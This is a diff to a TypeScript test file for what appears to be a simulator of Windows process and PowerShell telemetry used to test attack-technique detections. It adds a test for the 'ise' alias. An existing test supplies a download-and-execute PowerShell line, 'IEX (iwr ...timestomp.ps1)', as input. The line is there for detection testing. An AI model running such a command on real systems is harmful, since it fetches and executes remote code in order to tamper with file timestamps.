@@ -80,6 +80,19 @@ describe('programs by name and values that are not known', () => {
     expect(images('function samfile { }\nsamfile -consoleoutput')).toEqual(['powershell.exe']);
     expect(images("$e = @{\n  Start = '0x00000010'\n}")).toEqual(['powershell.exe']);
   });
+  it('the ise alias starts powershell_ise.exe (Windows PowerShell 5.1: ise -> powershell_ise.exe), it is no cmdlet', async () => {
+    const { run, processes } = await import('../helpers.ts');
+    const events = run('powershell', 'ise C:\\temp\\x.ps1');
+    expect(processes(events).slice(1)).toEqual([
+      expect.objectContaining({
+        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe',
+        OriginalFileName: 'powershell_ise.EXE',
+        CommandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe" C:\\temp\\x.ps1',
+        ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
+      }),
+    ]);
+    expect(events.filter((e) => e.fields['EventID'] === 4103 && /powershell_ise/i.test(JSON.stringify(e.fields)))).toEqual([]);
+  });
   it('a program named by a missing payload function is not guessed (T1070.006 #8: timestomp from an unavailable script)', async () => {
     const { simulateTest } = await import('../../../src/lib/simulate/harness.ts');
     const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: "IEX (iwr 'https://example.org/timestomp.ps1')\ntimestomp -dest x" });
